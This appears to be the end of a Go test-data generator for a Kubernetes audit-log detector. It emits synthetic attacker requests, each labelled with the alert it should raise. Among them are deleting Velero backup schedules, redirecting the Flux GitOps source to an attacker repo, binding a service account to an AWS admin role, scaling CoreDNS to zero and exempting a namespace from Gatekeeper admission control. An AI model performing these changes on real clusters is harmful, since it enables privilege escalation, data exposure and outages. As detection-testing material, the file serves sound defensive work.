	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "velero.io", res: "schedules", ns: "velero", name: "daily", ips: vpn, ua: "velero/v1.14.0 (linux/amd64) 2fc6300", expect: []string{"backup_tampering"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "source.toolkit.fluxcd.io", res: "gitrepositories", ns: "flux-system", name: "flux-system", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"url": "https://github.com/m4llory/fleet"}}, expect: []string{"gitops_source_changed"}})
	g.emit(hreq{user: def, groups: defG, verb: "create", group: "external-secrets.io", version: "v1beta1", res: "clustersecretstores", name: "all", ips: podIP, ua: "curl/8.5.0", expect: []string{"secret_store_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "serviceaccounts", ns: "shop", name: "api", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"metadata": map[string]any{"annotations": map[string]any{"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/admin"}}}, expect: []string{"serviceaccount_cloud_identity_change"}})
	g.emit(hreq{user: def, groups: defG, verb: "patch", res: "services", ns: "payments", name: "postgres", ips: podIP, ua: "curl/8.5.0", level: "Request",
		body: map[string]any{"spec": map[string]any{"type": "LoadBalancer"}}, expect: []string{"service_exposed_by_patch"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "persistentvolumes", name: "pvc-0c7e2d", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"claimRef": map[string]any{"namespace": "shop", "name": "copy", "uid": nil}}}, expect: []string{"pv_claim_rebound"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "apps", res: "deployments", sub: "scale", ns: "kube-system", name: "coredns", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"replicas": 0}}, expect: []string{"system_workload_scaled_to_zero"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "namespaces", name: "payments", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"metadata": map[string]any{"labels": map[string]any{"admission.gatekeeper.sh/ignore": "true"}}}, expect: []string{"namespace_admission_exemption"}})
	return g.bytes()
}
